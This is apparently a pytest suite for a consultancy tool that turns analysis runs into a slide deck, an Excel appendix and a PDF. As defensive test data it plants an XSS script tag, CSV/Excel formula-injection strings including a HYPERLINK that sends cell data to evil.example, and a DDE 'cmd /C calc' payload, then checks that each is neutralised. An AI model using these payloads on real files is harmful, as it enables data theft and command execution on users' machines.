"""The client deliverables beside report.html: the deck, the Excel appendix, the PDF, and the
hook that makes them at the end of `rox run` (rox_helpers/deliverables.py)."""

from __future__ import annotations

import io
import json
import re
import zipfile
from pathlib import Path

import nbformat
import numpy as np
import pandas as pd
import pytest
from openpyxl import load_workbook
from pptx import Presentation
from pptx.enum.shapes import MSO_SHAPE_TYPE

from conftest import make_tiny, write_notebook
from rox_helpers import deliverables as dl
from rox_helpers.artifacts import Finding, load_findings, new_run_dir, save_findings, save_table
from rox_helpers.config import load_engagement_config
from rox_helpers.pipeline import Step, run_engagement

CHROMIUM = dl.find_chromium()
needs_chromium = pytest.mark.skipif(
    CHROMIUM is None, reason="no Chromium installed (Debian: apt-get install chromium)"
)
HOSTILE = "<script>alert(1)</script>"
PLANTED = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1)", "+1", "-2+3", "\t=1")


def _png(width: int, height: int, colour: str) -> bytes:
    """A real PNG chart of a given pixel size (the size tells the charts apart)."""
    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    fig, ax = plt.subplots(figsize=(width / 100, height / 100), dpi=100)
    ax.bar(["a", "b"], [1, 2], color=colour)
    buf = io.BytesIO()
    fig.savefig(buf, format="png", dpi=100)
    plt.close(fig)
    return buf.getvalue()


def _executed_notebook(path: Path, sections: list[tuple[str, list[bytes]]]) -> None:
    """An executed notebook as papermill leaves it: headings, then code cells with PNGs."""
    import base64

    nb = nbformat.v4.new_notebook()
    hidden = nbformat.v4.new_code_cell("import matplotlib")
    hidden.metadata["tags"] = ["remove-cell"]
    hidden.outputs = [
        nbformat.v4.new_output("display_data", data={"image/png": "aGlkZGVu"})  # never used
    ]
    nb.cells.append(hidden)
    for heading, pngs in sections:
        nb.cells.append(nbformat.v4.new_markdown_cell(f"## {heading}\n\nSome narrative."))
        cell = nbformat.v4.new_code_cell("plot()")
        cell.outputs = [
            nbformat.v4.new_output(
                "display_data",
                data={"image/png": base64.b64encode(p).decode(), "text/plain": "<Figure>"},
            )
            for p in pngs
        ]
        nb.cells.append(cell)
    nbformat.write(nb, path)


@pytest.fixture
def run(tmp_path):
    """A run folder with findings of two steps, their notebooks' charts, aggregate and
    row-level tables, and a manifest: everything the deliverables read, no kernel."""
    root = make_tiny(tmp_path / "tiny")
    run_dir = new_run_dir(root)
    charts = {
        "nps_1": _png(400, 300, "#0B3C5D"),
        "nps_2": _png(500, 300, "#328CC1"),
        "league": _png(600, 300, "#D9B310"),
        "pride": _png(700, 300, "#6B7B8C"),
    }
    _executed_notebook(
        run_dir / "notebooks" / "01_measurement.ipynb",
        [
            ("Customer experience", [charts["nps_1"], charts["nps_2"]]),
            ("Hotels: a league table fair to small hotels", [charts["league"]]),
            ("Employee pride", [charts["pride"]]),
        ],
    )
    save_findings(
        run_dir,
        "01",
        [
            Finding("01", "NPS is -8.0 (95% CI -9.7 to -6.3)", ["n = 14,955"], "Read "
                    "differences against this interval.", "high", chart="Customer experience#2"),
            Finding("01", "Hotel NPS ranges from -44 to +37 after shrinkage", ["40 hotels"],
                    "Rank hotels on shrunk scores.", "medium"),
            Finding("01", "Weights were raked to two margins", ["deff 1.75"], "", "medium"),
            Finding("01", "A note of little weight", [], "", "low"),
        ],
    )  # fmt: skip
    save_findings(
        run_dir, "00", [Finding("00", "5 of 5 ROX elements have measures", [], "Go on.", "high")]
    )
    save_table(
        run_dir,
        "actions_plan",
        pd.DataFrame(
            {
                "name": [f"Action {i}" for i in range(14)],
                "priority": ["quick win"] * 14,
                "impact": np.linspace(5, 1, 14),
                "effort": [2.0] * 14,
                "owner": [""] * 14,
            }
        ),
    )
    save_table(
        run_dir,
        "value_scenarios",
        pd.DataFrame(
            {
                "scenario": ["base", "base"],
                "quantity": ["rox", "value"],
                "label": ["ROX ratio", "Value"],
                "estimate": [2.5, 1_250_000.0],
                "ci_low": [1.2, 600_000.0],
                "ci_high": [3.9, 1_900_000.0],
            }
        ),
    )
    save_table(
        run_dir,
        "nps_by_channel",
        pd.DataFrame(
            {
                "channel": ["app", *PLANTED, " =1+1"],
                "n": [3126, 10, 11, 12, 13, 14, 15],
                "estimate": [5.61, -10.46, -5.98, 0.5, np.nan, -1.0, 2.0],
                "significant": [True, False, True, False, True, False, True],
                "date": pd.to_datetime(["2026-01-01"] * 7),
            }
        ),
    )
    ids = [f"C-{i:016x}" for i in range(20)]
    save_table(run_dir, "customers", pd.DataFrame({"customer_id": ids, "region": "north"}))
    save_table(run_dir, "segment_members", pd.DataFrame({"customer_id": ids, "segment": 1}))
    save_table(run_dir, "top_guests", pd.DataFrame({"guest": ids, "stays": range(20)}))
    emp = [f"E-{i:016x}" for i in range(5)]
    save_table(run_dir, "peer_edges", pd.DataFrame({"source": emp, "target": emp[::-1]}))
    save_table(
        run_dir,
        "linkage_edges",
        pd.DataFrame({"source": ["pride", "values"], "target": ["values", "results"]}),
    )
    save_table(run_dir, "long_table", pd.DataFrame({"x": np.arange(dl.MAX_APPENDIX_ROWS + 1)}))
    (run_dir / "manifest.json").write_text(
        json.dumps({"run_id": run_dir.name, "engagement": "tiny", "started": "2026-03-02T10:00"})
    )
    return run_dir


def _cfg(run_dir: Path, **client):
    cfg = load_engagement_config(run_dir.parent.parent)
    for k, v in client.items():
        setattr(cfg.client, k, v)
    return cfg


def _texts(slide) -> str:
    out = []
    for shp in slide.shapes:
        if shp.has_text_frame:
            out.append(shp.text_frame.text)
        if shp.has_table:
            out += [c.text for r in shp.table.rows for c in r.cells]
    return "\n".join(out)


def _pictures(slide) -> list[bytes]:
    return [s.image.blob for s in slide.shapes if s.shape_type == MSO_SHAPE_TYPE.PICTURE]


# ------------------------------------------------------------------------------ the deck
def test_deck_slides_in_order_with_charts_so_whats_plan_and_business_case(run):
    cfg = _cfg(run, colours=type(_cfg(run).client.colours)(primary="#112233"))
    path = dl.render_deck(run, cfg)
    prs = Presentation(str(path))
    slides = list(prs.slides)
    titles = [s.shapes.title.text if s.shapes.title else "" for s in slides]
    # title, summary, one slide per high/medium finding (highest first), plan, business case
    assert titles == [
        "Tiny Hotels",
        "Executive summary",
        "5 of 5 ROX elements have measures",
        "NPS is -8.0 (95% CI -9.7 to -6.3)",
        "Hotel NPS ranges from -44 to +37 after shrinkage",
        "Weights were raked to two margins",
        "The action plan",
        "The business case",
    ]
    title = _texts(slides[0])
    assert run.name in title and "tiny" in title and "02 March 2026" in title and "DRAFT" in title
    summary = _texts(slides[1])
    order = [summary.index(h) for h in ("5 of 5 ROX", "NPS is -8.0", "Hotel NPS", "A note of")]
    assert order == sorted(order)  # high confidence first, low last, all listed
    # the chart the finding names (second image under the heading), not the first
    charts = dl.run_charts(run)["01"]
    assert _pictures(slides[3]) == [charts[1].png]
    assert "Read differences against this interval." in _texts(slides[3])
    # no reference in a step whose notebook names its charts: no chart, though the league
    # table's heading shares a word ("hotel") with the headline; the evidence is shown
    assert _pictures(slides[4]) == [] and "40 hotels" in _texts(slides[4])
    assert _pictures(slides[5]) == [] and "deff 1.75" in _texts(slides[5])
    assert _pictures(slides[2]) == []  # step 00 has no notebook in this run
    plan = _texts(slides[6])
    assert "Action 0" in plan and "Action 9" in plan and "Action 10" not in plan
    assert "First 10 of 14 rows" in plan
    case = _texts(slides[7])
    assert "2.5 (1.2 to 3.9)" in case and "1,250,000 (600,000 to 1,900,000)" in case
    for s in slides:  # every slide marked draft, nothing off the slide
        assert "DRAFT" in _texts(s)
        for shp in s.shapes:
            assert shp.left >= 0 and shp.top >= 0, shp.name
            assert shp.left + shp.width <= prs.slide_width, (titles, shp.name)
            assert shp.top + shp.height <= prs.slide_height, (titles, shp.name)
    bar = next(s for s in prs.slide_master.shapes if s.name == "rox-brand-bar")
    assert str(bar.fill.fore_color.rgb) == "112233"  # the client's colour on the master


def test_deck_keeps_hostile_and_huge_client_strings_as_text(run):
    name = HOSTILE + " & Co \x00\x0b" + "Ü" * 500
    cfg = _cfg(run, name=name)
    save_findings(run, "02", [Finding("02", f"{HOSTILE} <b>bold</b> & more", [], "x", "high")])
    prs = Presentation(str(dl.render_deck(run, cfg)))
    title = prs.slides[0].shapes.title.text
    assert title.startswith(HOSTILE + " & Co") and len(title) <= 160 and title.endswith("…")
    assert any(f"{HOSTILE} <b>bold</b> & more" in _texts(s) for s in prs.slides)
    with zipfile.ZipFile(run / "deck.pptx") as z:
        xml = z.read("ppt/slides/slide1.xml").decode()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in xml and "<script>" not in xml


def test_deck_follows_the_review_and_the_sign_off(run):
    (run.parent.parent / "review.yml").write_text(
        "findings:\n"
        '  "01.2": {hide: true, reason: "client knows"}\n'
        '  "01.3": {headline: "Weights correct two margins only", comment: "Agreed with HR"}\n'
    )
    findings, approval = dl.review_state(run)
    assert approval["draft"] is True
    prs = Presentation(str(dl.render_deck(run, _cfg(run))))
    text = "\n".join(_texts(s) for s in prs.slides)
    assert "Hotel NPS ranges" not in text  # hidden by the reviewer
    assert "Weights correct two margins only" in text and "Weights were raked" not in text
    assert "Agreed with HR" in text and "edited in review" in text
    signed = dl.render_deck(
        run, _cfg(run), findings=findings, approval={"draft": False, "text": "Approved by J"}
    )
    prs = Presentation(str(signed))
    assert not any("DRAFT" in _texts(s) for s in prs.slides)
    assert "Approved by J" not in _texts(prs.slides[0])  # only a draft carries the banner


def test_finding_slides_state_the_kind_base_and_interval(run):
    """The deck's slide of a finding says what its figure rests on, as the report does
    (kind · base · interval), and the summary names the kind; hostile text stays text."""
    save_findings(
        run,
        "01",
        [
            Finding("01", "NPS is -4.2", ["n"], "Read it so.", "high",
                    evidence_kind="survey_estimate", base=f"14,955 {HOSTILE} responses",
                    interval="95% CI -6.0 to -2.5"),
            Finding("01", "Old finding", [], "x", "medium"),
        ],
    )  # fmt: skip
    prs = Presentation(str(dl.render_deck(run, _cfg(run))))
    by_title = {s.shapes.title.text: _texts(s) for s in prs.slides if s.shapes.title is not None}
    assert (
        f"Survey estimate · base 14,955 {HOSTILE} responses · 95% CI -6.0 to -2.5"
        in by_title["NPS is -4.2"]
    )
    assert "Survey estimate" not in by_title["Old finding"]  # a run from before the fields
    assert "NPS is -4.2 (survey estimate, high confidence" in by_title["Executive summary"]
    with zipfile.ZipFile(run / "deck.pptx") as z:
        xml = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("ppt/slides/"))
    assert "<script>" not in xml


def test_long_texts_shrink_to_fit_their_box(run):
    # both with a chart, so their text shares the slide with it
    save_findings(
        run,
        "01",
        [
            Finding("01", "Short", ["n = 10"], "Brief.", "high", chart="Employee pride"),
            Finding("01", "Long", ["evidence " * 30] * 5, "so what " * 50, "high",
                    chart="Customer experience"),
        ],
    )  # fmt: skip
    prs = Presentation(str(dl.render_deck(run, _cfg(run))))
    by_title = {s.shapes.title.text: s for s in prs.slides if s.shapes.title is not None}

    def size_of(slide, start):
        return next(
            r.font.size.pt
            for shp in slide.shapes
            if shp.has_text_frame
            for p in shp.text_frame.paragraphs
            for r in p.runs
            if r.text.startswith(start)
        )

    assert size_of(by_title["Long"], "so what") < size_of(by_title["Short"], "Brief.")
    assert size_of(by_title["Long"], "evidence") < size_of(by_title["Short"], "n = 10")
    assert size_of(by_title["Long"], "evidence") >= 8
    assert dl._fit_size(["x" * 10], 914400 * 4, 914400, 20, 8) == 20
    assert dl._fit_size(["x" * 10_000], 914400 * 4, 914400, 20, 8) == 8


def test_chart_reference_rules():
    charts = [
        dl.Chart("01", "Customer experience", 1, b"a", "nps"),
        dl.Chart("01", "Customer experience", 2, b"b", "nps"),
        dl.Chart("01", "Employee experience", 1, b"c", 'if "pride" in emp:'),
    ]
    assert dl.chart_for({"chart": "customer  EXPERIENCE#2"}, charts).png == b"b"
    assert dl.chart_for({"chart": "Customer experience"}, charts).png == b"a"
    assert dl.chart_for({"chart": "No such heading"}, charts) is None
    # the section's code names the measure: a weaker match than a heading, but a match
    assert dl.chart_for({"headline": "Pride lowers the risk of leaving"}, charts).png == b"c"
    assert dl.chart_for({"headline": "Customer NPS"}, charts).png == b"a"
    used = {id(charts[0])}
    assert dl.chart_for({"headline": "Customer NPS"}, charts, used).png == b"b"
    assert dl.chart_for({"headline": "Occupancy is flat"}, charts) is None
    # a step that names its charts: no reference, no chart
    assert dl.chart_for({"headline": "Customer NPS"}, charts, match_words=False) is None
    assert dl.chart_for({"chart": "Employee experience"}, charts, match_words=False).png == b"c"


def test_words_pick_a_chart_only_where_a_step_names_none(run):
    """A run from before the notebooks named their charts: the deck matches headings to
    headlines; where a step names its charts, a headline rewritten in review (or any
    finding without a reference) never draws a chart by its words."""
    charts = dl.run_charts(run)["01"]
    save_findings(
        run,
        "01",
        [
            Finding("01", "NPS is -8.0", [], "x", "high"),
            Finding("01", "Hotel NPS ranges from -44 to +37", [], "y", "high"),
        ],
    )
    assert dl.steps_naming_charts(run) == set()
    by_title = {
        s.shapes.title.text: s for s in Presentation(str(dl.render_deck(run, _cfg(run)))).slides
    }
    assert _pictures(by_title["Hotel NPS ranges from -44 to +37"]) == [charts[2].png]

    save_findings(
        run,
        "01",
        [
            Finding("01", "NPS is -8.0", [], "x", "high", chart="Employee pride"),
            Finding("01", "Hotel NPS ranges from -44 to +37", [], "y", "high"),
        ],
    )
    (run.parent.parent / "review.yml").write_text(
        'findings:\n  "01.1": {headline: "Customer experience of hotels"}\n'
    )
    findings, _ = dl.review_state(run)
    assert dl.steps_naming_charts(run) == {"01"}
    prs = Presentation(str(dl.render_deck(run, _cfg(run), findings=findings)))
    by_title = {s.shapes.title.text: s for s in prs.slides}
    assert _pictures(by_title["Customer experience of hotels"]) == [charts[3].png]  # its own
    assert _pictures(by_title["Hotel NPS ranges from -44 to +37"]) == []


def _chart_references(source: str) -> list[str]:
    """The references a findings cell passes as ``charts={...}``, up to any part computed
    at run time (``f"Employee experience#{n + 1}"`` -> ``"Employee experience#"``)."""
    import ast

    refs = []
    for node in ast.walk(ast.parse(source)):
        for kw in getattr(node, "keywords", []) if isinstance(node, ast.Call) else []:
            if kw.arg == "charts" and isinstance(kw.value, ast.Dict):
                for v in kw.value.values:
                    parts = v.values if isinstance(v, ast.JoinedStr) else [v]
                    text = ""
                    for p in parts:
                        if not (isinstance(p, ast.Constant) and isinstance(p.value, str)):
                            break
                        text += p.value
                    refs.append(text)
    return refs


def test_step_notebooks_name_charts_by_their_own_headings():
    """Fast guard (no kernel) beside the sample-run test: every chart reference a step
    notebook hands its findings builder names a heading of that notebook."""
    notebooks = sorted((Path(__file__).parent.parent / "notebooks").glob("*.ipynb"))
    for path in notebooks:
        nb = nbformat.read(path, as_version=4)
        headings = {
            dl._norm(h)
            for c in nb.cells
            if c.cell_type == "markdown" and (h := dl._heading_of(c.source)) is not None
        }
        refs = [r for c in nb.cells if c.cell_type == "code" for r in _chart_references(c.source)]
        assert refs, f"{path.name} names no chart for its findings"
        for ref in refs:
            head = ref.rpartition("#")[0] if "#" in ref else ref
            assert dl._norm(head) in headings, f"{path.name}: {ref!r} is no heading of it"


def test_chart_namer_checks_the_kinds_and_numbers_items():
    from rox_helpers.artifacts import chart_namer

    ref = chart_namer(
        {"league": " Hotels#2 ", "what_ifs": "What if#{k}"}, ("league", "what_ifs", "x")
    )
    assert ref("league") == "Hotels#2" and ref("x") == ""
    assert [ref("what_ifs", k) for k in (1, 2)] == ["What if#1", "What if#2"]
    assert chart_namer(None, ("a",))("a") == ""
    with pytest.raises(ValueError, match=r"'leage'.*league, what_ifs"):
        chart_namer({"leage": "Hotels"}, ("league", "what_ifs"))


def test_finding_chart_field_is_optional_and_backward_compatible(tmp_path):
    save_findings(tmp_path, "01", [Finding("01", "old style"), Finding("01", "new", chart="H#2")])
    rows = load_findings(tmp_path, "01")["01"]["findings"]
    assert "chart" not in rows[0]  # findings written as before the field existed
    assert rows[1]["chart"] == "H#2"
    assert [Finding(**r) for r in rows][1].chart == "H#2"  # round trip


# -------------------------------------------------------------------------- the appendix
@pytest.mark.parametrize(
    ("raw", "safe"),
    [
        ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
        ("@SUM(1)", "'@SUM(1)"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("\uff1d1", "'\uff1d1"),
        ("Lovely stay = great", "Lovely stay = great"),
        ("a\x00b\x0bc", "abc"),
    ],
)
def test_neutralise(raw, safe):
    assert dl.neutralise(raw) == safe


def test_appendix_exports_only_aggregate_tables_and_neutralises_formulas(run):
    cfg = _cfg(run, name="=cmd|' /C calc'!A0")
    path = dl.render_appendix(run, cfg)
    wb = load_workbook(path)
    assert wb.sheetnames == [
        "Contents",
        "actions_plan",
        "linkage_edges",
        "nps_by_channel",
        "value_scenarios",
    ]
    contents = wb["Contents"]
    assert contents["A1"].value.startswith("'=cmd")
    listed = [c.value for c in contents["B"] if c.value]
    assert {"actions_plan", "nps_by_channel", "value_scenarios"} <= set(listed)
    link = contents["A6"]
    assert link.value == "actions_plan" and link.hyperlink.location == "'actions_plan'!A1"
    assert link.hyperlink.target is None  # a link inside the workbook, nothing external
    # no customer-level table, nor any pseudonymised id, anywhere in the workbook
    for ws in wb:
        for row in ws.iter_rows(values_only=True):
            for v in row:
                assert not (isinstance(v, str) and re.search(r"[CE]-[0-9a-f]{16}", v)), (ws, v)
    withheld = "\n".join(str(c.value) for c in contents["A"] if c.value)
    assert "customers (row-level input table)" in withheld
    assert "segment_members (identifier column(s) customer_id)" in withheld
    assert "top_guests (pseudonymised identifiers in column guest)" in withheld
    assert "peer_edges (pseudonymised identifiers in column source)" in withheld
    assert "long_table (10,001 rows" in withheld
    ws = wb["nps_by_channel"]
    assert [c.value for c in ws[1]] == ["channel", "n", "estimate", "significant", "date"]
    got = {r[0].value: r for r in ws.iter_rows(min_row=2)}
    for planted in (*PLANTED, " =1+1"):
        cell = got["'" + planted][0]
        assert cell.data_type == "s"
    assert len(got) == 7
    row = got['\'=HYPERLINK("http://evil.example/?x="&A1,"click")']
    assert row[1].value == 10 and row[1].data_type == "n" and row[1].number_format == "#,##0"
    assert row[2].value == pytest.approx(-10.46) and row[2].data_type == "n"
    assert got["'-2+3"][2].value is None  # NaN stays empty, not "nan"
    assert row[3].value is False and row[4].value.year == 2026
    assert ws.freeze_panes == "A2"
    # nothing in the file is a formula
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in z.read(name).decode(), name


def test_appendix_on_a_real_sample_like_frame_keeps_numbers_numbers(tmp_path):
    df = pd.DataFrame({"n": pd.array([1, None, 3], dtype="Int64"), "share": [0.1, 0.25, None]})
    assert dl.is_aggregate_table("nps_by_x", df) == (True, "")
    assert dl.excel_value(np.int64(5)) == 5 and dl.excel_value(np.float64("nan")) is None
    assert dl.excel_value(pd.NA) is None
    ts = pd.Timestamp("2026-01-02 03:04", tz="Europe/Paris")
    assert dl.excel_value(ts).tzinfo is None
    assert dl.excel_value(["=1", 2]) == '["=1", 2]'


# ------------------------------------------------------------------------------- the PDF
@needs_chromium
def test_pdf_of_the_report(tmp_path):
    html = tmp_path / "report.html"
    html.write_text("<!doctype html><html><body><h1>ROX</h1><p>Hello</p></body></html>")
    out = dl.render_pdf(html)
    assert isinstance(out, Path) and out == tmp_path / "report.pdf"
    assert out.read_bytes().startswith(b"%PDF")


def test_pdf_without_chromium_is_a_message_not_an_error(tmp_path, monkeypatch):
    monkeypatch.delenv("ROX_CHROMIUM", raising=False)
    monkeypatch.setattr(dl, "CHROMIUM_CANDIDATES", (str(tmp_path / "no-such-chromium"),))
    html = tmp_path / "report.html"
    html.write_text("<p>x</p>")
    msg = dl.render_pdf(html)
    assert isinstance(msg, str) and "no Chromium found" in msg and "apt-get install" in msg
    assert not (tmp_path / "report.pdf").exists()


def test_pdf_with_a_broken_browser_is_a_message(tmp_path):
    fake = tmp_path / "chromium"
    fake.write_text("#!/bin/sh\necho 'cannot open display' >&2\nexit 3\n")
    fake.chmod(0o755)
    html = tmp_path / "report.html"
    html.write_text("<p>x</p>")
    msg = dl.render_pdf(html, chromium=str(fake))
    assert isinstance(msg, str) and "exited with code 3" in msg and "cannot open display" in msg


# ------------------------------------------------------------------------------ the hook
def test_render_deliverables_records_a_failure_and_goes_on(run):
    (run / "artifacts" / "tables" / "actions_plan.parquet").write_bytes(b"not parquet")
    out = dl.render_deliverables(run, _cfg(run), report_html=run / "missing.html")
    assert isinstance(out["deck"], str) and "deck not produced" in out["deck"]
    assert isinstance(out["appendix"], Path) and out["appendix"].is_file()
    assert out["pdf"] == "PDF not produced: there is no report.html to print"
    rec = dl.manifest_outputs(out, run)
    assert rec["appendix"] == "appendix.xlsx" and "error" in rec["deck"]


def test_rox_run_makes_the_deliverables_and_records_them(tmp_path):
    """A real run (one small notebook in a kernel): the deck carries the chart the notebook
    drew, the manifest records every output; then a deliverable that fails on re-render is
    recorded with its message and the report is still rendered."""
    from rox_helpers.pipeline import render_run

    root = make_tiny(tmp_path / "tiny")
    nbs = tmp_path / "nbs"
    nbs.mkdir()
    path = write_notebook(
        nbs / "01_measurement.ipynb",
        "%matplotlib inline\nimport matplotlib.pyplot as plt\n"
        "from rox_helpers.artifacts import Finding, save_findings",
        "fig, ax = plt.subplots(figsize=(4, 3))\nax.plot([1, 2], [3, 1])\nplt.show()",
        "save_findings(RUN_DIR, '01', [Finding('01', 'Guest loyalty fell', ['n = 12'], "
        "'Act on it.', 'high')])",
    )
    nb = nbformat.read(path, as_version=4)
    nb.cells.insert(2, nbformat.v4.new_markdown_cell("## Guest loyalty over time"))
    nbformat.write(nb, path)
    r = run_engagement(
        root, notebooks_dir=nbs, steps=(Step("01", path.name, "Measurement"),), jobs=1
    )
    assert r.status == "ok", r.failures
    outputs = json.loads(r.manifest.read_text())["outputs"]
    assert outputs["report"] == "report.html"
    assert outputs["deck"] == "deck.pptx" and outputs["appendix"] == "appendix.xlsx"
    if CHROMIUM is None:
        assert "no Chromium found" in outputs["pdf"]["error"]
    else:
        assert outputs["pdf"] == "report.pdf"
        assert (r.run_dir / "report.pdf").read_bytes().startswith(b"%PDF")
    prs = Presentation(str(r.run_dir / "deck.pptx"))
    slide = next(s for s in prs.slides if s.shapes.title.text == "Guest loyalty fell")
    assert len(_pictures(slide)) == 1 and "Act on it." in _texts(slide)

    (r.run_dir / "artifacts" / "tables" / "actions_plan.parquet").write_bytes(b"broken")
    render_run(r.run_dir, root, steps=(Step("01", path.name, "Measurement"),))
    manifest = json.loads(r.manifest.read_text())
    assert manifest["status"] == "ok"
    assert "deck not produced" in manifest["outputs"]["deck"]["error"]
    assert manifest["outputs"]["appendix"] == "appendix.xlsx"
    assert (r.run_dir / "report.html").is_file()
